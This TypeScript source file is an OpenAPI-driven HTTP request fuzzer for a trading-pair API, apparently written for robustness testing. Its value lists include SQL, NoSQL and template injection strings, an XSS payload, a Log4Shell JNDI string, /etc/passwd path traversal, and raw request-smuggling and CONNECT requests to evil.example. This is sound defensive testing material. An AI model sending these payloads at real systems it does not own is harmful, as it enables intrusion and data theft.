/**
 * Generates HTTP requests from an OpenAPI 3.1 document: for every operation and parameter, valid
 * values (examples, enums, bounds, random values in range), boundary values just outside, wrong
 * types, huge strings, unicode, strings that look like query syntax, missing, repeated and unknown
 * parameters, opaque tokens that were never issued, other methods, other paths, bad keys, and
 * requests Node's HTTP parser refuses. Each request carries what the API must answer.
 *
 * Whether a value is valid is decided from the document (type, bounds, pattern, enum, format); the
 * few rules JSON Schema cannot say are passed in as `rules`.
 */

export interface Schema {
  type?: string;
  minimum?: number;
  maximum?: number;
  pattern?: string;
  enum?: string[];
  examples?: unknown[];
  format?: string;
  formatMinimum?: string;
  formatMaximum?: string;
  oneOf?: Schema[];
}

export interface Parameter {
  name: string;
  in: string;
  required?: boolean;
  schema: Schema;
}

export interface Operation {
  path: string;
  method: string;
  parameters: Parameter[];
  secured: boolean;
}

interface Document {
  security?: unknown[];
  paths: Record<string, Record<string, { parameters?: Parameter[]; security?: unknown[] }>>;
}

/** The operations of a document, with their effective security. */
export function operationsOf(document: Document): Operation[] {
  const secured = (document.security ?? []).length > 0;
  return Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => ({
      path,
      method: method.toUpperCase(),
      parameters: operation.parameters ?? [],
      secured: operation.security === undefined ? secured : operation.security.length > 0,
    })),
  );
}

/** What the API must answer: an exact status (and the parameter a 400 names), or anything but 5xx. */
export type Expectation = { status: number; parameter?: string } | { status: '4xx' } | { status: 'not 5xx' };

export interface FuzzCase {
  /** What was done to the request, for failure messages and statistics. */
  kind: string;
  operation: string;
  method: string;
  /** Path and query, as on the request line. */
  target: string;
  headers: Record<string, string>;
  /** The whole request as bytes on the wire, for requests an HTTP client would refuse to send. */
  raw?: string;
  /** An event stream: read the head, then hang up. */
  stream?: boolean;
  expect: Expectation;
}

/** The rules of a deployment that JSON Schema does not say, and the answers its data implies. */
export interface FuzzRules {
  /** Extra validity check of a whole valid-looking query; returns the parameter it fails on, if any. */
  crossCheck: (operation: Operation, query: Map<string, string>) => string | null;
  /** Extra validity check of one decoded value that conforms to its schema (e.g. a window of at most 90d). */
  valueCheck: (parameter: Parameter, value: string) => boolean;
  /** The status a valid request gets (200, or 404 for a latest with no prediction). */
  validStatus: (operation: Operation, query: Map<string, string>) => number;
  /** Values known to be useful for this deployment's data, by parameter name. */
  extraValid: Record<string, string[]>;
  /** Parameters whose valid values the API issues itself (cursors); values not issued may or may not be accepted. */
  opaque: Record<string, string[]>;
  /** Headers of an authenticated request, and headers that must be refused with 401. */
  goodAuth: Record<string, string>[];
  badAuth: Record<string, string>[];
}

type Validity = 'valid' | 'invalid' | 'unknown';

/** A value as sent (percent-encoded, as in a query string) and as the server decodes it. */
interface Value {
  wire: string;
  decoded: string;
  /** Validity known by construction (a token that was never a position), over the schema's verdict. */
  known?: Validity;
}

const plain = (text: string): Value => ({ wire: encodeURIComponent(text), decoded: text });
const preEncoded = (wire: string): Value => ({ wire, decoded: new URLSearchParams(`v=${wire}`).get('v') ?? '' });

const NASTY_TEXT = [
  '',
  ' ',
  '*',
  '"',
  '\\',
  "'",
  '{"query":{"match_all":{}}}',
  '" OR ""="',
  "' OR 1=1 --",
  'BTC/USDT" }, "size": 10000, "x": {"',
  'BTC/USDT;DROP TABLE api_keys',
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '../../../etc/passwd',
  'BTC/*',
  '*:*',
  '_all',
  'pair:BTC/USDT OR pair:*',
  '{{7*7}}',
  '{"$gt":""}',
  'a&pair=b',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '1e3',
  '1.5',
  '-1',
  '+5',
  ' 5',
  '5 ',
  '٥',
  '9'.repeat(40),
  'BTC/USDT\u200b',
  '\ufeffBTC/USDT',
  'ＢＴＣ/ＵＳＤＴ',
  '₿/USDT',
  'btc/uſdt',
  'İ/USDT',
  '💥/🚀',
  'ب/ت',
  'BTC\u0000/USDT',
  'BTC/USDT\n',
  'e\u0301',
  'A'.repeat(10_000),
  'é'.repeat(2_000),
  '🚀'.repeat(900),
];
const NASTY_WIRE = ['%ED%A0%80', '%C0%AF', '%FF%FE', '%', '%zz', '%2', '%00', 'BTC+USDT', 'BTC%2FUSDT', '%2e%2e%2f'];

const INVALID_TIMES = [
  '2025-02-30T00:00:00Z',
  '2025-13-01T00:00:00Z',
  '2025-01-01T24:00:00Z',
  '2025-01-01T00:00:60Z',
  '2025-01-01T00:00:00',
  '2025-01-01 00:00:00Z',
  '2025-01-01T00:00:00+24:00',
  '1999-12-31T23:59:59.999Z',
  '2100-01-01T00:00:00.001Z',
  '1999-12-31',
  '2100-01-02',
  'yesterday',
  'now',
];

const CURSOR_GARBAGE = [
  '!!!',
  '',
  'a'.repeat(1_025),
  ...[
    'not json',
    '{}',
    '[1]',
    '[-1,"x"]',
    '[1.5,"x"]',
    '[1e300,"x"]',
    '[1,""]',
    `[1,"${'x'.repeat(513)}"]`,
    '[1,"x",3]',
    '["1","x"]',
    '[null,"x"]',
    '[9007199254740993,"x"]',
    '[1,{"query":{"match_all":{}}}]',
    '[1,["x"]]',
  ].map((json) => Buffer.from(json).toString('base64url')),
];
/** Well-formed positions the API never issued: they may be accepted (they are valid positions) or refused. */
const CURSOR_FORGED = ['[0,"x"]', '[1,"*"]', '[4102444800000,"\u{1F680}"]', '[1735689600000,"a\\"b"]'].map((json) =>
  Buffer.from(json).toString('base64url'),
);

function pick<T>(random: () => number, items: readonly T[]): T {
  const item = items[Math.floor(random() * items.length)];
  if (item === undefined) throw new Error('pick from an empty list');
  return item;
}

function isCanonicalInteger(text: string): boolean {
  return /^-?(0|[1-9][0-9]*)$/.test(text) && Number.isSafeInteger(Number(text));
}

/** An RFC 3339 UTC date-time or a date that reads back the same (no Feb 30), or null. */
function strictDate(text: string, format: 'date' | 'date-time'): number | null {
  const form = format === 'date' ? /^\d{4}-\d{2}-\d{2}$/ : /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$/;
  if (!form.test(text)) return null;
  const ms = Date.parse(format === 'date' ? `${text}T00:00:00.000Z` : text);
  if (Number.isNaN(ms)) return null;
  const back = new Date(ms).toISOString();
  const expected = format === 'date' ? `${text}T00:00:00.000Z` : text.length === 20 ? text.replace('Z', '.000Z') : text;
  return back === expected ? ms : null;
}

/** Whether a decoded value conforms to a schema. */
function conforms(schema: Schema, text: string): boolean {
  if (schema.oneOf !== undefined) return schema.oneOf.filter((alternative) => conforms(alternative, text)).length === 1;
  if (schema.type === 'integer') {
    if (!isCanonicalInteger(text)) return false;
    const n = Number(text);
    return (
      (schema.minimum === undefined || n >= schema.minimum) && (schema.maximum === undefined || n <= schema.maximum)
    );
  }
  if (schema.enum !== undefined) return schema.enum.includes(text);
  if (schema.format === 'date-time' || schema.format === 'date') {
    const ms = strictDate(text, schema.format);
    if (ms === null) return false;
    const bound = (edge: string | undefined) => (edge === undefined ? null : strictDate(edge, schema.format as 'date'));
    const [min, max] = [bound(schema.formatMinimum), bound(schema.formatMaximum)];
    return (min === null || ms >= min) && (max === null || ms <= max);
  }
  if (schema.pattern !== undefined) return new RegExp(schema.pattern, 'u').test(text);
  return schema.type === 'string';
}

function isoAt(ms: number, format: string): string {
  const iso = new Date(ms).toISOString();
  return format === 'date' ? iso.slice(0, 10) : iso;
}

/** Valid values of a schema, from the document alone. */
function validFromSchema(schema: Schema, random: () => number): string[] {
  if (schema.oneOf !== undefined) return schema.oneOf.flatMap((alternative) => validFromSchema(alternative, random));
  const examples = (schema.examples ?? []).map(String);
  if (schema.type === 'integer') {
    const min = schema.minimum ?? 0;
    const max = schema.maximum ?? 1_000_000;
    const inRange = Array.from({ length: 3 }, () => String(min + Math.floor(random() * (max - min + 1))));
    return [...examples, String(min), String(max), ...inRange];
  }
  if (schema.enum !== undefined) return [...schema.enum];
  if (schema.format === 'date-time' || schema.format === 'date') {
    const min = Date.parse(schema.formatMinimum ?? '2000-01-01T00:00:00Z');
    const max = Date.parse(schema.formatMaximum ?? '2100-01-01T00:00:00Z');
    const inRange = Array.from({ length: 3 }, () =>
      isoAt(min + Math.floor(random() * (max - min)), schema.format ?? ''),
    );
    return [
      ...examples,
      isoAt(min, schema.format),
      ...(schema.format === 'date' ? [] : [isoAt(max, schema.format)]),
      ...inRange,
    ];
  }
  return examples;
}

/** Values just outside a schema, and values of the wrong kind. */
function invalidFromSchema(schema: Schema): Value[] {
  if (schema.oneOf !== undefined) return schema.oneOf.flatMap(invalidFromSchema);
  if (schema.type === 'integer') {
    const outside = [(schema.minimum ?? 0) - 1, (schema.maximum ?? 1_000_000) + 1, -1, 0];
    return outside.map((n) => plain(String(n)));
  }
  if (schema.enum !== undefined) return [...schema.enum.map((value) => plain(value.toUpperCase())), plain('sideways')];
  if (schema.format === 'date-time' || schema.format === 'date') return INVALID_TIMES.map(plain);
  return [];
}

export interface Generator {
  next(): FuzzCase;
}

/**
 * A seeded generator of requests over the document's operations. `random` drives every choice, so
 * the same seed, document and rules give the same requests.
 */
export function fuzzRequests(document: Document, rules: FuzzRules, random: () => number): Generator {
  const operations = operationsOf(document);
  const documented = new Set(Object.keys(document.paths));

  const validity = (parameter: Parameter, value: Value): Validity => {
    if (value.known !== undefined) return value.known;
    const opaque = rules.opaque[parameter.name];
    if (opaque !== undefined) {
      if (opaque.includes(value.decoded)) return 'valid';
      return conforms(parameter.schema, value.decoded) ? 'unknown' : 'invalid';
    }
    return conforms(parameter.schema, value.decoded) && rules.valueCheck(parameter, value.decoded)
      ? 'valid'
      : 'invalid';
  };

  const validValue = (parameter: Parameter): Value => {
    const opaque = rules.opaque[parameter.name];
    if (opaque !== undefined && opaque.length > 0) return plain(pick(random, opaque));
    const candidates = [
      ...validFromSchema(parameter.schema, random),
      ...(rules.extraValid[parameter.name] ?? []),
    ].filter((text) => rules.valueCheck(parameter, text));
    return plain(pick(random, candidates));
  };

  const anyValue = (parameter: Parameter): Value => {
    const roll = random();
    if (roll < 0.3) {
      const schemaInvalid = invalidFromSchema(parameter.schema);
      if (schemaInvalid.length > 0) return pick(random, schemaInvalid);
    }
    const issued = rules.opaque[parameter.name];
    if (issued !== undefined && roll < 0.6) {
      const kind = random();
      if (kind < 0.6) return { ...preEncoded(pick(random, CURSOR_GARBAGE)), known: 'invalid' };
      if (kind < 0.8 || issued.length === 0) return { ...preEncoded(pick(random, CURSOR_FORGED)), known: 'unknown' };
      // An issued token with one character changed: another position, or not a position at all.
      const token = pick(random, issued);
      const at = Math.floor(random() * token.length);
      const swapped = `${token.slice(0, at)}${token[at] === 'A' ? 'B' : 'A'}${token.slice(at + 1)}`;
      return { ...preEncoded(swapped), known: issued.includes(swapped) ? 'valid' : 'unknown' };
    }
    if (roll < 0.85) return plain(pick(random, NASTY_TEXT));
    return preEncoded(pick(random, NASTY_WIRE));
  };

  /** A valid query: every required parameter, each optional one half of the time. */
  const validQuery = (operation: Operation): Map<string, Value> => {
    for (let attempt = 0; ; attempt += 1) {
      const query = new Map<string, Value>();
      for (const parameter of operation.parameters) {
        if (parameter.in !== 'query') continue;
        if (parameter.required === true || random() < 0.5) {
          if (parameter.name in rules.opaque && (rules.opaque[parameter.name] ?? []).length === 0) continue;
          query.set(parameter.name, validValue(parameter));
        }
      }
      if (rules.crossCheck(operation, decodedOf(query)) === null || attempt > 20) return query;
    }
  };

  const target = (path: string, query: [string, string][]): string =>
    query.length === 0 ? path : `${path}?${query.map(([name, wire]) => `${name}=${wire}`).join('&')}`;

  const entries = (query: Map<string, Value>): [string, string][] =>
    [...query].map(([name, value]) => [name, value.wire]);

  const authHeaders = (operation: Operation): Record<string, string> =>
    operation.secured ? { ...pick(random, rules.goodAuth) } : {};

  const validExpectation = (operation: Operation, query: Map<string, string>): Expectation => {
    const failing = rules.crossCheck(operation, query);
    if (failing !== null) return { status: 400, parameter: failing };
    return { status: rules.validStatus(operation, query) };
  };

  const isStream = (operation: Operation): boolean => operation.path.endsWith('/stream');

  const base = (operation: Operation, kind: string, query: [string, string][], expect: Expectation): FuzzCase => ({
    kind,
    operation: `${operation.method} ${operation.path}`,
    method: operation.method,
    target: target(operation.path, query),
    headers: authHeaders(operation),
    stream: isStream(operation),
    expect,
  });

  const queryParameters = (operation: Operation) => operation.parameters.filter((p) => p.in === 'query');

  const makers: [number, (operation: Operation) => FuzzCase | null][] = [
    // A valid request, its parameters in any order, sometimes with empty pieces (`&&`) around.
    [
      30,
      (operation) => {
        const query = validQuery(operation);
        const pieces = entries(query).sort(() => random() - 0.5);
        const made = base(operation, 'valid', pieces, validExpectation(operation, decodedOf(query)));
        if (random() < 0.15) made.target = made.target.includes('?') ? `${made.target}&&` : `${made.target}?&`;
        return made;
      },
    ],
    // One parameter set to anything: its validity (from the schema) decides the answer.
    [
      35,
      (operation) => {
        const parameters = queryParameters(operation);
        if (parameters.length === 0) return null;
        const parameter = pick(random, parameters);
        const query = validQuery(operation);
        const value = anyValue(parameter);
        query.set(parameter.name, value);
        const verdict = validity(parameter, value);
        const expect: Expectation = !operation.secured
          ? { status: 200 }
          : verdict === 'invalid'
            ? { status: 400, parameter: parameter.name }
            : verdict === 'unknown'
              ? { status: 'not 5xx' }
              : validExpectation(operation, decodedOf(query));
        return base(operation, `value of ${parameter.name}`, entries(query), expect);
      },
    ],
    // The cross-parameter rules broken on purpose (from after to).
    [
      3,
      (operation) => {
        const names = new Set(queryParameters(operation).map((p) => p.name));
        if (!names.has('from') || !names.has('to')) return null;
        const query = validQuery(operation);
        const [early, late] = [Date.UTC(2024, 0, 1) + Math.floor(random() * 1e9), Date.UTC(2025, 6, 1)];
        query.set('from', plain(String(late)));
        query.set('to', plain(new Date(early).toISOString()));
        return base(operation, 'from after to', entries(query), { status: 400, parameter: 'from' });
      },
    ],
    // A required parameter left out.
    [
      5,
      (operation) => {
        const required = queryParameters(operation).filter((p) => p.required === true);
        if (required.length === 0) return null;
        const parameter = pick(random, required);
        const query = validQuery(operation);
        query.delete(parameter.name);
        const expect: Expectation = operation.secured ? { status: 400, parameter: parameter.name } : { status: 200 };
        return base(operation, `missing ${parameter.name}`, entries(query), expect);
      },
    ],
    // A parameter given twice (same or another value).
    [
      5,
      (operation) => {
        const parameters = queryParameters(operation);
        if (parameters.length === 0) return null;
        const parameter = pick(random, parameters);
        const query = validQuery(operation);
        const first = query.get(parameter.name) ?? validValue(parameter);
        query.delete(parameter.name);
        const second = random() < 0.5 ? first : validValue(parameter);
        const pieces: [string, string][] = [
          ...entries(query),
          [parameter.name, first.wire],
          [parameter.name, second.wire],
        ];
        const expect: Expectation = operation.secured ? { status: 400, parameter: parameter.name } : { status: 200 };
        return base(operation, `repeated ${parameter.name}`, pieces, expect);
      },
    ],
    // A parameter the operation does not have.
    [
      5,
      (operation) => {
        const name = pick(random, [
          'foo',
          'PAIR',
          'Pair',
          'pair[]',
          '__proto__',
          'constructor',
          'toString',
          'size',
          'q',
          '%00',
          '🚀',
        ]);
        const query = validQuery(operation);
        const wireName = name === '🚀' ? encodeURIComponent(name) : name;
        const pieces: [string, string][] = [...entries(query), [wireName, encodeURIComponent('BTC/USDT')]];
        const decodedName = new URLSearchParams(`${wireName}=x`).keys().next().value ?? name;
        const expect: Expectation = operation.secured ? { status: 400, parameter: decodedName } : { status: 200 };
        return base(operation, 'unknown parameter', pieces, expect);
      },
    ],
    // Another method.
    [
      4,
      (operation) => {
        const method = pick(random, ['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND', 'PURGE']);
        const made = base(operation, `method ${method}`, entries(validQuery(operation)), { status: 405 });
        made.method = method;
        return made;
      },
    ],
    // HEAD of a valid request: the same status, no body.
    [
      2,
      (operation) => {
        const query = validQuery(operation);
        const made = base(operation, 'HEAD', entries(query), validExpectation(operation, decodedOf(query)));
        made.method = 'HEAD';
        return made;
      },
    ],
    // A path next to a real one.
    [
      4,
      (operation) => {
        const path = pick(random, [
          `${operation.path}/`,
          `/${operation.path}`,
          operation.path.toUpperCase(),
          `${operation.path}/..`,
          `${operation.path}/../pairs`,
          `${operation.path}.json`,
          `${operation.path};jsessionid=1`,
          `${operation.path}%00`,
          `/${operation.path.slice(1).replace(/\//g, '%2F')}`,
          `${operation.path}/${'x'.repeat(5_000)}`,
          `/v2${operation.path}`,
          `${operation.path}${encodeURIComponent('/🚀')}`,
          '/',
          '*',
        ]);
        const expect: Expectation = documented.has(path) ? { status: 'not 5xx' } : { status: 404 };
        const made = base(operation, 'path', entries(validQuery(operation)), expect);
        made.target = target(path, entries(validQuery(operation)));
        return made;
      },
    ],
    // A key that is missing, malformed, unknown or revoked; or a good key in another accepted form.
    [
      5,
      (operation) => {
        if (!operation.secured) return null;
        const query = validQuery(operation);
        if (random() < 0.8) {
          const made = base(operation, 'bad key', entries(query), { status: 401 });
          made.headers = { ...pick(random, rules.badAuth) };
          return made;
        }
        return base(operation, 'key form', entries(query), validExpectation(operation, decodedOf(query)));
      },
    ],
    // Bytes an HTTP client would not send: Node's parser refuses them before any route.
    [
      2,
      (operation) => {
        const line = `${operation.path}?${entries(validQuery(operation))
          .map(([name, wire]) => `${name}=${wire}`)
          .join('&')}`;
        const auth = Object.entries(authHeaders(operation))
          .map(([name, value]) => `${name}: ${value}\r\n`)
          .join('');
        const [kind, raw, expect]: [string, string, Expectation] = pick(random, [
          ['unknown method', `BREW ${line} HTTP/1.1\r\nHost: x\r\n${auth}\r\n`, { status: 400 }],
          ['space in target', `GET ${line}&x=a b HTTP/1.1\r\nHost: x\r\n${auth}\r\n`, { status: '4xx' }],
          ['control character', `GET ${line}\u0001 HTTP/1.1\r\nHost: x\r\n${auth}\r\n`, { status: 400 }],
          ['bad version', `GET ${line} HTTP/9.9\r\nHost: x\r\n${auth}\r\n`, { status: '4xx' }],
          ['header without colon', `GET ${line} HTTP/1.1\r\nHost: x\r\nBroken header\r\n${auth}\r\n`, { status: 400 }],
          [
            'huge header',
            `GET ${line} HTTP/1.1\r\nHost: x\r\nX-Big: ${'b'.repeat(20_000)}\r\n${auth}\r\n`,
            { status: 431 },
          ],
          ['huge target', `GET ${line}&x=${'a'.repeat(20_000)} HTTP/1.1\r\nHost: x\r\n${auth}\r\n`, { status: 431 }],
          [
            'smuggling',
            `GET ${line} HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n${auth}\r\n0\r\n\r\n`,
            { status: 400 },
          ],
          ['no host', `GET ${line} HTTP/1.1\r\n${auth}Connection: close\r\n\r\n`, { status: 400 }],
          [
            'absolute form',
            `GET http://evil.example${line} HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`,
            { status: 404 },
          ],
          ['CONNECT', `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`, { status: 405 }],
          [
            'upgrade',
            `GET ${line} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n${auth}\r\n`,
            { status: 'not 5xx' },
          ],
          [
            'raw UTF-8',
            `GET ${operation.path}?pair=₿/USDT HTTP/1.1\r\nHost: x\r\n${auth}Connection: close\r\n\r\n`,
            { status: 'not 5xx' },
          ],
        ]);
        return { ...base(operation, `raw: ${kind}`, [], expect), raw };
      },
    ],
  ];
  const total = makers.reduce((sum, [weight]) => sum + weight, 0);

  return {
    next() {
      for (;;) {
        const operation = pick(random, operations);
        let roll = random() * total;
        for (const [weight, make] of makers) {
          roll -= weight;
          if (roll < 0) {
            const made = make(operation);
            if (made !== null) return made;
            break;
          }
        }
      }
    },
  };
}

function decodedOf(query: Map<string, Value>): Map<string, string> {
  return new Map([...query].map(([name, value]) => [name, value.decoded]));
}
